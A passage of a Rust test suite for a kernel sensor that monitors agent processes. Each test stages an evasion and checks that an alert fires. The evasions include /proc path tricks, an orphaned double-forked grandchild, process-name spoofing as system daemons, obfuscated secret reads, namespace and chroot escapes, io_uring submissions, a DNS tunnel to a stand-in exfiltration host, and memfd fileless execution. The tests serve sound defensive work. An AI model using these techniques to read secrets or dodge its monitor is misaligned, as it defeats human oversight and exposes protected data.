    let cat_arg = format!("/proc/self/root{}", s(&cat_case));
    run_agent(
        &sensor,
        "catprocroot",
        &scene.worktree,
        &["/bin/sh", "-c", &format!("{CAT} {cat_arg} > /dev/null")],
    );
    let (_, alerts) = finish(sensor);
    let prefixes = [
        "/proc/self/root/",
        "/proc/thread-self/root/",
        "/proc/",
        "/proc/",
        "/dev/fd/",
    ];
    for (secret, prefix) in cases.iter().zip(prefixes) {
        let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "procpaths", secret);
        let arg = ev["path_arg"].as_str().unwrap_or_default();
        assert!(arg.starts_with(prefix), "{alert:#}");
        assert_eq!(ev["path_source"], "kernel", "{alert:#}");
    }
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "catprocroot", &cat_case);
    assert_eq!(ev["path_arg"], cat_arg.as_str(), "{alert:#}");
    assert_eq!(alert["exe"], real(CAT), "{alert:#}");
}

#[test]
fn path_only_calls_through_proc_paths_are_caught_with_the_real_path() {
    if !can_run_kernel_tests("path_only_calls_through_proc_paths_are_caught_with_the_real_path") {
        return;
    }
    let scene = Scene::new("procpathonly");
    let victim = scene.outside_file("victim", "v");
    let made = scene.outside.join("madedir");
    let moved = scene.outside.join("moved");
    // The caller stays alive for a while: the README promises resolution "as the calling
    // process, best effort", which needs its /proc entry.
    let script = scene.script(
        "pathonly",
        "import os, sys, time\n\
         outside = sys.argv[1]\n\
         os.unlink('/proc/self/root' + outside + '/victim')\n\
         os.mkdir('/proc/%d/cwd/../outside/madedir' % os.getpid())\n\
         open('tomove', 'w').close()\n\
         os.rename('tomove', '/proc/thread-self/cwd/../outside/moved')\n\
         time.sleep(1.5)\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "pathonly",
        &scene.worktree,
        &[PYTHON, &script, s(&scene.outside)],
    );
    assert!(!victim.exists() && made.is_dir() && moved.exists());
    let (_, alerts) = finish(sensor);
    for target in [&victim, &made, &moved] {
        expect_alert(&alerts, WRITE_OUTSIDE, "pathonly", target);
    }
}

#[test]
fn a_double_forked_setsid_grandchild_outliving_the_agent_is_still_the_agent() {
    if !can_run_kernel_tests(
        "a_double_forked_setsid_grandchild_outliving_the_agent_is_still_the_agent",
    ) {
        return;
    }
    let scene = Scene::new("doublefork");
    let secret = scene.secret("orphan");
    let marker = scene.worktree.join("grandchild.done");
    // The grandchild waits until its parent is gone (re-parented) and the agent's own process
    // has exited and been reaped, then reads the secret and leaves a marker.
    let script = scene.script(
        "doublefork",
        "import os, sys, time\n\
         secret, marker = sys.argv[1], sys.argv[2]\n\
         top = os.getpid()\n\
         if os.fork() == 0:\n\
         \x20   os.setsid()\n\
         \x20   middle = os.getpid()\n\
         \x20   if os.fork() == 0:\n\
         \x20       null = os.open('/dev/null', os.O_RDWR)\n\
         \x20       for fd in (0, 1, 2):\n\
         \x20           os.dup2(null, fd)\n\
         \x20       deadline = time.time() + 20\n\
         \x20       def alive(pid):\n\
         \x20           try:\n\
         \x20               os.kill(pid, 0)\n\
         \x20               return True\n\
         \x20           except ProcessLookupError:\n\
         \x20               return False\n\
         \x20       while os.getppid() == middle or alive(top):\n\
         \x20           if time.time() > deadline:\n\
         \x20               os._exit(1)\n\
         \x20           time.sleep(0.01)\n\
         \x20       with open(secret) as f:\n\
         \x20           ok = f.read().startswith('secret:')\n\
         \x20       with open(marker + '.tmp', 'w') as f:\n\
         \x20           f.write('pid=%d ppid=%d middle=%d top=%d sid=%d ok=%d' % (os.getpid(), os.getppid(), middle, top, os.getsid(0), ok))\n\
         \x20       os.rename(marker + '.tmp', marker)\n\
         \x20       os._exit(0)\n\
         \x20   os._exit(0)\n\
         os.wait()\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "doublefork",
        &scene.worktree,
        &[PYTHON, &script, s(&secret), s(&marker)],
    );
    let deadline = Instant::now() + Duration::from_secs(25);
    while !marker.exists() {
        assert!(Instant::now() < deadline, "the grandchild never finished");
        std::thread::sleep(Duration::from_millis(50));
    }
    let out = std::fs::read_to_string(&marker).unwrap();
    assert_eq!(field(&out, "ok"), 1, "{out}");
    let (pid, ppid, middle, top, sid) = (
        field(&out, "pid"),
        field(&out, "ppid"),
        field(&out, "middle"),
        field(&out, "top"),
        field(&out, "sid"),
    );
    assert!(ppid != middle && ppid != top, "not re-parented: {out}");
    assert_eq!(sid, middle, "setsid did not take: {out}");
    let (_, alerts) = finish(sensor);
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "doublefork", &secret);
    assert_eq!(alert["pid"], pid, "{alert:#}");
    assert_eq!(ev["ppid"], ppid, "{alert:#}");
}

#[test]
fn changing_comm_or_argv0_does_not_hide_the_agent_or_its_executable() {
    if !can_run_kernel_tests("changing_comm_or_argv0_does_not_hide_the_agent_or_its_executable") {
        return;
    }
    let scene = Scene::new("comm");
    let comm_secret = scene.secret("comm");
    let bash_secret = scene.secret("bashexeca");
    let execv_secret = scene.secret("execv");
    let comm_script = scene.script(
        "comm",
        "import ctypes, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         assert libc.prctl(15, b'systemd', 0, 0, 0) == 0  # PR_SET_NAME\n\
         assert open('/proc/self/comm').read().strip() == 'systemd'\n\
         with open(sys.argv[1]) as f:\n\
         \x20   assert f.read().startswith('secret:')\n\
         print('pid=%d' % os.getpid())\n",
    );
    let execv_script = scene.script(
        "execv",
        "import os, sys\n\
         print('pid=%d' % os.getpid(), flush=True)\n\
         os.execv(sys.argv[1], ['/usr/sbin/sshd', sys.argv[2]])\n",
    );
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "comm",
        &scene.worktree,
        &[PYTHON, &comm_script, s(&comm_secret)],
    );
    let comm_pid = field(&out, "pid");
    run_agent(
        &sensor,
        "bash-exec-a",
        &scene.worktree,
        &[
            "/bin/bash",
            "-c",
            &format!(
                "exec -a '[kworker/0:1]' {CAT} {} > /dev/null",
                s(&bash_secret)
            ),
        ],
    );
    let out = run_agent(
        &sensor,
        "execv",
        &scene.worktree,
        &[PYTHON, &execv_script, CAT, s(&execv_secret)],
    );
    let execv_pid = field(&out, "pid");
    let (events, alerts) = finish(sensor);
    let cat_ino = std::fs::metadata(CAT).unwrap().ino();

    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "comm", &comm_secret);
    assert_eq!(alert["pid"], comm_pid, "{alert:#}");
    assert_eq!(alert["exe"], real(PYTHON), "{alert:#}");
    assert_eq!(
        ev["comm"], "systemd",
        "the rename did not happen? {alert:#}"
    );

    for (agent, secret, fake) in [
        ("bash-exec-a", &bash_secret, "[kworker/0:1]"),
        ("execv", &execv_secret, "/usr/sbin/sshd"),
    ] {
        let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, agent, secret);
        assert_eq!(alert["exe"], real(CAT), "{alert:#}");
        let pid = alert["pid"].as_u64().unwrap();
        let exec = events_of(&events, "process.exec", pid)
            .into_iter()
            .find(|e| e["filename"] == CAT)
            .unwrap_or_else(|| panic!("no exec of {CAT} by {pid}: {events:#?}"));
        assert_eq!(exec["argv"][0], fake, "argv[0] was not faked: {exec:#}");
        assert_eq!(exec["ino"], cat_ino, "{exec:#}");
    }
    assert!(
        events_of(&events, "process.exec", execv_pid)
            .iter()
            .any(|e| e["filename"] == CAT),
        "the python's own exec of cat is missing"
    );
}

#[test]
fn exec_through_a_symlink_named_like_a_daemon_reports_the_real_executable() {
    if !can_run_kernel_tests(
        "exec_through_a_symlink_named_like_a_daemon_reports_the_real_executable",
    ) {
        return;
    }
    // Executing through a symlink changes comm (the kernel takes the link's name) and argv[0]
    // at once; the alert should still name the binary that ran.
    let scene = Scene::new("execlink");
    let secret = scene.secret("vialink");
    let bin = scene.root.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let link = bin.join("systemd");
    std::os::unix::fs::symlink(CAT, &link).unwrap();
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "execlink",
        &scene.worktree,
        &[
            "/bin/sh",
            "-c",
            &format!("{} {} > /dev/null", s(&link), s(&secret)),
        ],
    );
    let (events, alerts) = finish(sensor);
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "execlink", &secret);
    let pid = alert["pid"].as_u64().unwrap();
    let exec = events_of(&events, "process.exec", pid)
        .into_iter()
        .last()
        .unwrap_or_else(|| panic!("no exec event of {pid}"));
    // The image is the real cat (by inode), whatever it was called.
    assert_eq!(
        exec["ino"],
        std::fs::metadata(CAT).unwrap().ino(),
        "{exec:#}"
    );
    assert_eq!(ev["comm"], "systemd", "{alert:#}");
    // Both names are kept: the one the agent used and the file that ran.
    assert_eq!(exec["filename"], s(&link), "{exec:#}");
    assert_eq!(
        alert["exe"],
        real(CAT),
        "the alert names the symlink, not the executable: {alert:#}\nexec event: {exec:#}"
    );
}

#[test]
fn interpreters_are_judged_by_their_syscalls() {
    if !can_run_kernel_tests("interpreters_are_judged_by_their_syscalls") {
        return;
    }
    let scene = Scene::new("interp");
    let py = scene.secret("pythonc");
    let py_obf = scene.secret("pythonobf");
    let sh = scene.secret("shc");
    let sh_builtin = scene.secret("shbuiltin");
    let bash = scene.secret("bashc");
    let perl = scene.secret("perle");
    let have_perl = Path::new("/usr/bin/perl").exists();
    let sensor = scene.sensor();
    let py_code = format!("assert open('{}').read().startswith('secret:')", s(&py));
    run_agent(
        &sensor,
        "pythonc",
        &scene.worktree,
        &[PYTHON, "-c", &py_code],
    );
    // The same, hex-escaped: nothing in the command line names the file.
    let hidden: String = format!("open('{}').read()", s(&py_obf))
        .bytes()
        .map(|b| format!("\\x{b:02x}"))
        .collect();
    let obf_code = format!("exec(b'{hidden}'.decode())");
    run_agent(
        &sensor,
        "pythonobf",
        &scene.worktree,
        &[PYTHON, "-c", &obf_code],
    );
    run_agent(
        &sensor,
        "shc",
        &scene.worktree,
        &["/bin/sh", "-c", &format!("{CAT} {} > /dev/null", s(&sh))],
    );
    // Only the shell itself: a redirection, no child process.
    run_agent(
        &sensor,
        "shbuiltin",
        &scene.worktree,
        &[
            "/bin/sh",
            "-c",
            &format!("read -r l < {} && test -n \"$l\"", s(&sh_builtin)),
        ],
    );
    run_agent(
        &sensor,
        "bashc",
        &scene.worktree,
        &[
            "/bin/bash",
            "-c",
            &format!("x=$(< {}) && test -n \"$x\"", s(&bash)),
        ],
    );
    if have_perl {
        run_agent(
            &sensor,
            "perle",
            &scene.worktree,
            &[
                "/usr/bin/perl",
                "-e",
                "open(F, '<', $ARGV[0]) or die; my $l = <F>; $l =~ /^secret:/ or die",
                s(&perl),
            ],
        );
    } else {
        eprintln!("perl case skipped: /usr/bin/perl does not exist");
    }
    let (_, alerts) = finish(sensor);
    let mut cases = vec![
        ("pythonc", &py, PYTHON),
        ("pythonobf", &py_obf, PYTHON),
        ("shc", &sh, CAT),
        ("shbuiltin", &sh_builtin, "/bin/sh"),
        ("bashc", &bash, "/bin/bash"),
    ];
    if have_perl {
        cases.push(("perle", &perl, "/usr/bin/perl"));
    }
    for (agent, secret, exe) in cases {
        let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, agent, secret);
        assert_eq!(alert["exe"], real(exe), "{alert:#}");
    }
}

#[test]
fn vfork_children_are_tracked() {
    if !can_run_kernel_tests("vfork_children_are_tracked") {
        return;
    }
    let scene = Scene::new("vfork");
    let spawned = scene.secret("posixspawn");
    let sub = scene.secret("subprocess");
    // glibc's posix_spawn is clone3(CLONE_VM | CLONE_VFORK); CPython's subprocess uses vfork
    // too where it can.
    let script = scene.script(
        "vfork",
        "import os, subprocess, sys\n\
         null = [(os.POSIX_SPAWN_OPEN, 1, '/dev/null', os.O_WRONLY, 0)]\n\
         pid = os.posix_spawn(sys.argv[1], ['cat', sys.argv[2]], dict(os.environ), file_actions=null)\n\
         _, status = os.waitpid(pid, 0)\n\
         assert status == 0, status\n\
         p = subprocess.Popen([sys.argv[1], sys.argv[3]], stdout=subprocess.DEVNULL)\n\
         assert p.wait() == 0\n\
         print('parent=%d spawned=%d sub=%d' % (os.getpid(), pid, p.pid))\n",
    );
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "vfork",
        &scene.worktree,
        &[PYTHON, &script, CAT, s(&spawned), s(&sub)],
    );
    let parent = field(&out, "parent");
    let (events, alerts) = finish(sensor);
    for (secret, key) in [(&spawned, "spawned"), (&sub, "sub")] {
        let child = field(&out, key);
        let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, "vfork", secret);
        assert_eq!(alert["pid"], child, "{alert:#}");
        assert_eq!(alert["exe"], real(CAT), "{alert:#}");
        assert!(
            events_of(&events, "process.fork", parent)
                .iter()
                .any(|e| e["child_tgid"] == child),
            "no process.fork of {parent} -> {child}"
        );
    }
}

#[test]
fn threads_are_tracked() {
    if !can_run_kernel_tests("threads_are_tracked") {
        return;
    }
    let scene = Scene::new("threads");
    let read_secret = scene.secret("threadread");
    let exec_secret = scene.secret("threadexec");
    // One thread reads the secret; then another thread execs cat (the kernel turns the
    // exec'ing thread into the process leader).
    let script = scene.script(
        "threads",
        "import os, sys, threading\n\
         out = {}\n\
         def reader():\n\
         \x20   with open(sys.argv[1]) as f:\n\
         \x20       assert f.read().startswith('secret:')\n\
         \x20   out['tid'] = threading.get_native_id()\n\
         t = threading.Thread(target=reader)\n\
         t.start(); t.join()\n\
         print('pid=%d tid=%d' % (os.getpid(), out['tid']), flush=True)\n\
         def execer():\n\
         \x20   fd = os.open('/dev/null', os.O_WRONLY)\n\
         \x20   os.dup2(fd, 1)\n\
         \x20   os.execv(sys.argv[3], ['cat', sys.argv[2]])\n\
         threading.Thread(target=execer).start()\n\
         threading.Event().wait(30)\n",
    );
    let sensor = scene.sensor();
    let out = run_agent(
        &sensor,
        "threads",
        &scene.worktree,
        &[PYTHON, &script, s(&read_secret), s(&exec_secret), CAT],
    );
    let (pid, tid) = (field(&out, "pid"), field(&out, "tid"));
    assert_ne!(pid, tid);
    let (_, alerts) = finish(sensor);
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "threads", &read_secret);
    assert_eq!(ev["pid"], tid, "{alert:#}");
    assert_eq!(ev["tgid"], pid, "{alert:#}");
    let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, "threads", &exec_secret);
    assert_eq!(alert["pid"], pid, "{alert:#}");
    assert_eq!(alert["exe"], real(CAT), "{alert:#}");
}

/// Whether this host lets us create a user namespace (`unshare -U -r`).
fn user_namespaces_work() -> Result<(), String> {
    let out = Command::new("unshare")
        .args(["-U", "-r", "true"])
        .output()
        .map_err(|e| format!("unshare: {e}"))?;
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).trim().to_string())
    }
}

#[test]
fn new_namespaces_do_not_shake_off_tracking() {
    if !can_run_kernel_tests("new_namespaces_do_not_shake_off_tracking") {
        return;
    }
    let scene = Scene::new("ns");
    let mut cases: Vec<(&str, Vec<&str>)> = vec![
        ("mountns", vec!["-m"]),
        ("netns", vec!["-n"]),
        ("pidns", vec!["-p", "-f"]),
        ("utsipcns", vec!["-u", "-i"]),
    ];
    match user_namespaces_work() {
        Ok(()) => {
            cases.push(("userns", vec!["-U", "-r"]));
            cases.push(("allns", vec!["-U", "-r", "-m", "-n", "-p", "-f"]));
        }
        Err(why) => eprintln!("user namespace cases skipped: `unshare -U -r` fails: {why}"),
    }
    let sensor = scene.sensor();
    let mut secrets = Vec::new();
    for (name, flags) in &cases {
        let secret = scene.secret(name);
        let mut argv = vec!["/usr/bin/unshare"];
        argv.extend(flags);
        let cmd = format!("{CAT} {} > /dev/null", s(&secret));
        argv.extend(["/bin/sh", "-c", &cmd]);
        run_agent(&sensor, name, &scene.worktree, &argv);
        secrets.push(secret);
    }
    // A chroot changes what "/" means for the agent, not the path reported.
    let chrooted = scene.secret("chroot");
    let code = format!(
        "import os; os.chroot('{}'); os.chdir('/'); assert open('/secrets/chroot').read().startswith('secret:')",
        s(&scene.root)
    );
    run_agent(&sensor, "chroot", &scene.worktree, &[PYTHON, "-c", &code]);
    let (_, alerts) = finish(sensor);
    for ((name, _), secret) in cases.iter().zip(&secrets) {
        // `unshare -m` keeps the same root: the path is the host's.
        let (alert, _) = expect_alert(&alerts, SENSITIVE_READ, name, secret);
        assert_eq!(alert["exe"], real(CAT), "{alert:#}");
    }
    let (alert, ev) = expect_alert(&alerts, SENSITIVE_READ, "chroot", &chrooted);
    assert_eq!(ev["path_arg"], "/secrets/chroot", "{alert:#}");
}

#[test]
fn renames_and_links_across_the_worktree_boundary_are_caught() {
    if !can_run_kernel_tests("renames_and_links_across_the_worktree_boundary_are_caught") {
        return;
    }
    let scene = Scene::new("renames");
    let w = &scene.worktree;
    let pulled_in = scene.outside_file("x", "from outside\n");
    let overwritten = scene.outside_file("z", "old z\n");
    let exchanged = scene.outside_file("a", "outside a\n");
    let sym_target = scene.outside_file("symtarget", "t\n");
    let sub = scene.outside.join("sub");
    std::fs::create_dir(&sub).unwrap();
    std::fs::write(w.join("y"), "inside y\n").unwrap();
    std::fs::write(w.join("swapme"), "inside swap\n").unwrap();
    let via_dir = scene.outside.join("viadir");
    let via_file = scene.outside.join("viafile");
    let exchange = scene.script(
        "exchange",
        "import ctypes, os, sys\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         # renameat2(AT_FDCWD, 'swapme', AT_FDCWD, outside, RENAME_EXCHANGE)\n\
         r = libc.syscall(ctypes.c_long(316), ctypes.c_long(-100), b'swapme', ctypes.c_long(-100), sys.argv[1].encode(), ctypes.c_long(2))\n\
         assert r == 0, os.strerror(ctypes.get_errno())\n",
    );
    // `link/../x` is the parent of the link's target plus x, not `<worktree>/x`.
    let dotdot = scene.script(
        "dotdot",
        "import os, sys, time\n\
         os.symlink(sys.argv[1], 'link')\n\
         os.mkdir('link/../viadir')\n\
         open('f', 'w').close()\n\
         os.rename('f', 'link/../viafile')\n\
         time.sleep(1.5)\n",
    );
    let sensor = scene.sensor();
    run_agent(&sensor, "rename-in", w, &["/bin/mv", s(&pulled_in), "y"]);
    run_agent(
        &sensor,
        "rename-over",
        w,
        &[
            "/bin/sh",
            "-c",
            &format!("echo new > y2 && mv y2 {}", s(&overwritten)),
        ],
    );
    run_agent(&sensor, "exchange", w, &[PYTHON, &exchange, s(&exchanged)]);
    run_agent(
        &sensor,
        "file-symlink",
        w,
        &[
            "/bin/sh",
            "-c",
            &format!("ln -s {} l && echo x >> l", s(&sym_target)),
        ],
    );
    run_agent(&sensor, "dotdot", w, &[PYTHON, &dotdot, s(&sub)]);
    // The evasions really happened.
    assert!(!pulled_in.exists());
    assert_eq!(std::fs::read_to_string(&overwritten).unwrap(), "new\n");
    assert_eq!(
        std::fs::read_to_string(&exchanged).unwrap(),
        "inside swap\n"
    );
    assert_eq!(std::fs::read_to_string(&sym_target).unwrap(), "t\nx\n");
    assert!(via_dir.is_dir() && via_file.exists());
    let (_, alerts) = finish(sensor);
    for (agent, target) in [
        ("rename-in", &pulled_in),
        ("rename-over", &overwritten),
        ("exchange", &exchanged),
        ("file-symlink", &sym_target),
        ("dotdot", &via_dir),
        ("dotdot", &via_file),
    ] {
        expect_alert(&alerts, WRITE_OUTSIDE, agent, target);
    }
}

#[test]
#[ignore = "known gap (README): a path-only call's symlinked directory is resolved on the host after the call"]
fn a_path_only_call_through_a_symlink_removed_right_after_is_caught() {
    if !can_run_kernel_tests("a_path_only_call_through_a_symlink_removed_right_after_is_caught") {
        return;
    }
    // The daemon resolves a path-only call's directories on the host after the call; the
    // agent removes the symlink before that can happen.
    let scene = Scene::new("symrace");
    let sub = scene.outside.join("sub");
    std::fs::create_dir(&sub).unwrap();
    let raced_dir = scene.outside.join("raced_dir");
    let raced_file = scene.outside.join("raced_file");
    let script = scene.script(
        "symrace",
        "import os, sys\n\
         os.symlink(sys.argv[1], 'link')\n\
         os.mkdir('link/../raced_dir')\n\
         open('f', 'w').close()\n\
         os.rename('f', 'link/../raced_file')\n\
         os.unlink('link')\n",
    );
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "symrace",
        &scene.worktree,
        &[PYTHON, &script, s(&sub)],
    );
    assert!(raced_dir.is_dir() && raced_file.exists());
    let (events, alerts) = finish(sensor);
    let seen: Vec<String> = events
        .iter()
        .filter(|e| e["kind"] == "file.mkdir" || e["kind"] == "file.rename")
        .map(|e| {
            format!(
                "{} {} -> {} (args {} -> {}, {})",
                e["syscall"],
                e["path"],
                e["path2"],
                e["path_arg"],
                e["path2_arg"],
                e["path_source"]
            )
        })
        .filter(|line| line.contains("raced"))
        .collect();
    for target in [&raced_dir, &raced_file] {
        assert!(
            alerts.iter().any(
                |a| a["rule"] == WRITE_OUTSIDE && a["evidence"].to_string().contains(s(target))
            ),
            "no {WRITE_OUTSIDE} on {}; the sensor saw {seen:#?}",
            target.display()
        );
    }
}

#[test]
#[ignore = "known gap (README): a hard link made before tracking started is not followed to its other names"]
fn a_write_through_a_hard_link_planted_before_the_agent_started_is_caught() {
    if !can_run_kernel_tests(
        "a_write_through_a_hard_link_planted_before_the_agent_started_is_caught",
    ) {
        return;
    }
    // Someone else left a second name of an outside file in the worktree; writing it writes
    // the outside file.
    let scene = Scene::new("plantedlink");
    let outside = scene.outside_file("planted", "outside\n");
    let inside = scene.worktree.join("planted");
    std::fs::hard_link(&outside, &inside).unwrap();
    let sensor = scene.sensor();
    run_agent(
        &sensor,
        "plantedlink",
        &scene.worktree,
        &["/bin/sh", "-c", "echo evil >> planted"],
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "outside\nevil\n"
    );
    let (events, alerts) = finish(sensor);
    let ino = std::fs::metadata(&outside).unwrap().ino();
    let opens: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "file.open" && e["ino"] == ino)
        .collect();
    assert!(!opens.is_empty(), "the write was not even recorded");
    assert!(
        alerts
            .iter()
            .any(|a| a["rule"] == WRITE_OUTSIDE && a["agent"] == "plantedlink"),
        "the outside file {} was written through {} without an alert; opens: {opens:#?}",
        outside.display(),
        inside.display()
    );
}

/// The results io_uring.py printed, one per operation (`None` for a skipped completion).
fn uring_results(out: &str) -> Vec<Option<i64>> {
    out.lines()
        .map(|line| {
            let result: Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("{line}: {e}"));
            result["res"].as_i64()
        })
        .collect()
}

/// DNS queries sent through io_uring (`IORING_OP_SEND` on a connected socket, no syscall that
/// sends) carry a tunnel as well as `sendto` does: recorded as sends, parsed, caught.
#[test]
fn a_dns_tunnel_through_io_uring_sends_is_caught() {
    if !can_run_io_uring_tests("a_dns_tunnel_through_io_uring_sends_is_caught") {
        return;
    }
    let scene = Scene::new("uringdns");
    let client = scene.script("io_uring", IO_URING_PY);
    // Three queries of long base32 labels, as `detection.rs` sends with sendto.
    let queries: Vec<String> = (0..3).map(tunnel_query_hex).collect();
    // A listener, or the port's unreachable answer would fail the next send.
    let _resolver =
        std::net::UdpSocket::bind("127.0.0.79:53").expect("loopback listener on 127.0.0.79:53");
    let mut argv = vec![
        PYTHON,
        &client,
        "socket",
        "2",
        "2",
        "0",
        "connect",
        "last",
        "127.0.0.79",
        "53",
    ];
    for query in &queries {
        argv.extend(["sendc", "@0", query.as_str()]);
    }
    let sensor = scene.sensor();
    let out = run_agent(&sensor, "uringdns", &scene.worktree, &argv);
    assert_eq!(
        out.matches(r#""op": "sendc", "res": 77"#).count(),
        3,
        "{out}"
    );
    let (events, alerts) = finish(sensor);
    let queried: Vec<_> = events
        .iter()
        .filter(|e| e["kind"] == "net.send" && e["flags"] == serde_json::json!(["io_uring"]))
        .map(|e| e["dns"]["name"].clone())
        .collect();
    assert_eq!(queried.len(), 3, "{events:#?}");
    assert!(
        queried.iter().all(|n| n
            .as_str()
            .is_some_and(|n| n.ends_with(".exfil.example.net"))),
        "{queried:?}"
    );
    assert_dns_tunnel_alert(&alerts, "uringdns");
}

/// io_uring runs opens, renames, unlinks and mkdirs without a syscall of their own, in the
/// kernel or in the process's io_uring threads: each request is recorded when it is submitted,
/// as the syscall that does the same and flagged `io_uring`, and judged like that syscall. So
/// too from the submission-polling thread, and with the completion skipped.
#[test]
fn io_uring_requests_are_recorded_and_judged() {
    if !can_run_io_uring_tests("io_uring_requests_are_recorded_and_judged") {
        return;
    }
    let scene = Scene::new("iouring");
    let w = &scene.worktree;
    let uring = scene.script("io_uring", IO_URING_PY);
    let secret = scene.secret("uring-key");
    let polled = scene.secret("uring-polled-key");
    let linked = scene.secret("uring-linked-key");
    scene.secret("uring-far-key");
    // A harmless name in the worktree for the secret: the open follows it.
    std::os::unix::fs::symlink(&linked, w.join("notes")).unwrap();
    // A path longer than the sensor reads: what it names is not seen, and that is said.
    let long = format!("{}/{}../secrets/uring-far-key", s(w), "./".repeat(300));
    let victim = scene.outside_file("uring-victim", "v\n");
    let pulled = scene.outside_file("uring-pulled", "p\n");
    let made = scene.outside.join("uring-made");
    let dir = scene.outside.join("uring-dir");
    let sensor = scene.sensor();
    let read = run_agent(
        &sensor,
        "uring-read",
        w,
        &[PYTHON, &uring, "openat", s(&secret), "0"],
    );
    let write_ops = [
        "openat",
        s(&made),
        "577",
        "unlinkat",
        s(&victim),
        "renameat",
        s(&pulled),
        "pulled-in",
        "mkdirat",
        s(&dir),
    ];
    let write = run_agent(
        &sensor,
        "uring-write",
        w,
        &[&[PYTHON, &uring][..], &write_ops].concat(),
    );
    // The polling thread submits; a successful open posts no completion.
    let polled_out = run_agent(
        &sensor,
        "uring-polled",
        w,
        &[
            PYTHON,
            &uring,
            "--sqpoll",
            "--skip-success",
            "openat",
            s(&polled),
            "0",
        ],
    );
    let via_link = run_agent(
        &sensor,
        "uring-link",
        w,
        &[PYTHON, &uring, "openat", "notes", "0"],
    );
    let via_long = run_agent(
        &sensor,
        "uring-long",
        w,
        &[PYTHON, &uring, "openat", &long, "0"],
    );
    // The requests really ran.
    for out in [&read, &via_link, &via_long] {
        assert!(uring_results(out)[0].is_some_and(|fd| fd >= 0), "{out}");
    }
    let wrote = uring_results(&write);
    assert!(
        wrote[0].is_some_and(|fd| fd >= 0) && wrote[1..] == [Some(0); 3],
        "{write}"
    );
    assert_eq!(uring_results(&polled_out), [None], "{polled_out}");
    assert!(made.exists() && !victim.exists() && !pulled.exists() && dir.is_dir());
    assert!(w.join("pulled-in").exists());
    let (events, alerts) = finish(sensor);

    let (_, evidence) = expect_alert(&alerts, SENSITIVE_READ, "uring-read", &secret);
    assert_eq!(
        evidence["flags"],
        serde_json::json!(["io_uring"]),
        "{evidence:#}"
    );
    assert_eq!(evidence["syscall"], "openat", "{evidence:#}");
    let (_, evidence) = expect_alert(&alerts, SENSITIVE_READ, "uring-polled", &polled);
    assert!(
        evidence["comm"]
            .as_str()
            .is_some_and(|c| c.starts_with("iou-sqp-")),
        "submitted by the polling thread: {evidence:#}"
    );
    let (_, evidence) = expect_alert(&alerts, SENSITIVE_READ, "uring-link", &linked);
    assert_eq!(evidence["path_arg"], "notes", "{evidence:#}");
    // The daemon looked the opened file up: the secret's own device and inode.
    let meta = std::fs::metadata(&linked).unwrap();
    assert_eq!(evidence["ino"], meta.ino(), "{evidence:#}");
    assert!(
        alerts.iter().any(|a| a["rule"] == "tamper.sensor"
            && a["agent"] == "uring-long"
            && a["summary"]
                .as_str()
                .is_some_and(|s| s.starts_with("named a file with a path longer than"))),
        "{alerts:#?}"
    );
    for target in [&made, &victim, &pulled, &dir] {
        let (_, evidence) = expect_alert(&alerts, WRITE_OUTSIDE, "uring-write", target);
        assert_eq!(
            evidence["flags"],
            serde_json::json!(["io_uring"]),
            "{evidence:#}"
        );
    }
    // The ring's creation is recorded as well.
    assert!(
        events
            .iter()
            .any(|e| e["kind"] == "process.io_uring_setup" && e["ret"].as_i64() >= Some(0)),
        "no process.io_uring_setup"
    );
}

#[test]
fn a_memfd_exec_is_caught_as_a_program_with_no_file_on_disk() {
    if !can_run_kernel_tests("a_memfd_exec_is_caught_as_a_program_with_no_file_on_disk") {
        return;
    }
    let scene = Scene::new("memfd");
    // execve("/proc/self/fd/N") and fexecve (execveat(N, "", AT_EMPTY_PATH)) of a memfd.
    let script = scene.script(
        "memfd",
        "import os, sys\n\
         fd = os.memfd_create(sys.argv[1], 0)\n\
         os.write(fd, open('/usr/bin/true', 'rb').read())\n\
         print('pid=%d fd=%d' % (os.getpid(), fd), flush=True)\n\
         if sys.argv[2] == 'path':\n\
         \x20   os.execv('/proc/self/fd/%d' % fd, ['payload'])\n\
         else:\n\
         \x20   os.execve(fd, ['payload'], dict(os.environ))\n",
    );
    let sensor = scene.sensor();
    let mut runs = Vec::new();
    for (name, how) in [("memfd-path", "path"), ("memfd-fexecve", "fd")] {
        let out = run_agent(
            &sensor,
            name,
            &scene.worktree,
            &[PYTHON, &script, name, how],
        );
        runs.push((name, field(&out, "pid"), field(&out, "fd")));
    }
    let (events, alerts) = finish(sensor);
    for (name, pid, fd) in runs {
        let fileless: Vec<_> = alerts
            .iter()
            .filter(|a| {
                a["agent"] == name
                    && a["rule"] == "exec.suspicious_tool"
                    && a["summary"]
                        .as_str()
                        .is_some_and(|s| s.starts_with("ran a program that has no file on disk"))
            })
            .collect();
        assert_eq!(fileless.len(), 1, "{name}: {alerts:#?}");
        let created = events_of(&events, "process.memfd_create", pid);
        assert!(
            created.iter().any(|e| e["name"] == name && e["ret"] == fd),
            "no process.memfd_create {name} -> {fd} from {pid}: {created:#?}"
        );
        let execs = events_of(&events, "process.exec", pid);
        let wanted = [format!("/proc/self/fd/{fd}"), format!("/dev/fd/{fd}")];
        assert!(
            execs
                .iter()
                .any(|e| wanted.iter().any(|w| e["filename"] == w.as_str())),
            "no exec of the memfd by {pid}: {execs:#?}"
        );
    }
}

#[test]
fn gap_a_socket_connected_before_tracking_is_at_least_recorded() {
